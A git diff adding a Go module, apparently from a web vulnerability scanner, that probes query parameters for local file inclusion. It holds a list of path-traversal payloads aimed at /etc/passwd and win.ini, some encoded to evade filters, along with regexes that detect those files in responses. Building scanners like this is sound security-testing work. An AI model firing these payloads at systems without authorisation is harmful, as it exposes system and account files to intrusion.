@@ -0,0 +1,65 @@
+package main
+
+import (
+	"fmt"
+	"net/http"
+	"net/url"
+	"os"
+	"regexp"
+)
+
+// lfiPayloads are written verbatim into parameter values, so each one is
+// already in the encoding it should be sent with.
+var lfiPayloads = []string{
+	"../../../etc/passwd",
+	"../../../../../../../../etc/passwd",
+	"/etc/passwd",
+	"..%2f..%2f..%2fetc%2fpasswd",
+	"%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
+	"..%252f..%252f..%252fetc%252fpasswd",
+	"....//....//....//etc/passwd",
+	"..%5c..%5c..%5cwindows%5cwin.ini",
+}
+
+// lfiIndicators match the contents of the files targeted by lfiPayloads.
+var lfiIndicators = []*regexp.Regexp{
+	regexp.MustCompile(`root:[^:\n]*:0:0:`),
+	regexp.MustCompile(`(?i)\[(fonts|extensions)\]`),
+}
+
+// detectFileInclusion replaces each query parameter of r with every payload in turn
+// and reports parameters whose response contains file contents that
+// weren't already in the baseline body.
+func detectFileInclusion(client *http.Client, r request, headers headerArgs, payloads []string, baseBody []byte) {
+	u, err := url.Parse(r.url)
+	if err != nil {
+		return
+	}
+
+	found := make(map[string]bool)
+	for _, payload := range payloads {
+		variants := rewriteParams(u, func(_, _ string) string {
+			return payload
+		})
+
+		for _, v := range variants {
+			if found[v.param] {
+				continue
+			}
+
+			_, body, err := probe(client, r.method, v.url, r.body, headers)
+			if err != nil {
+				fmt.Fprintf(os.Stderr, "request failed: %s\n", err)
+				continue
+			}
+
+			for _, re := range lfiIndicators {
+				if re.Match(body) && !re.Match(baseBody) {
+					fmt.Printf("LFI-POSSIBLE:%s %s\n", v.param, v.url)
+					found[v.param] = true
+					break
+				}
+			}
+		}
+	}
+}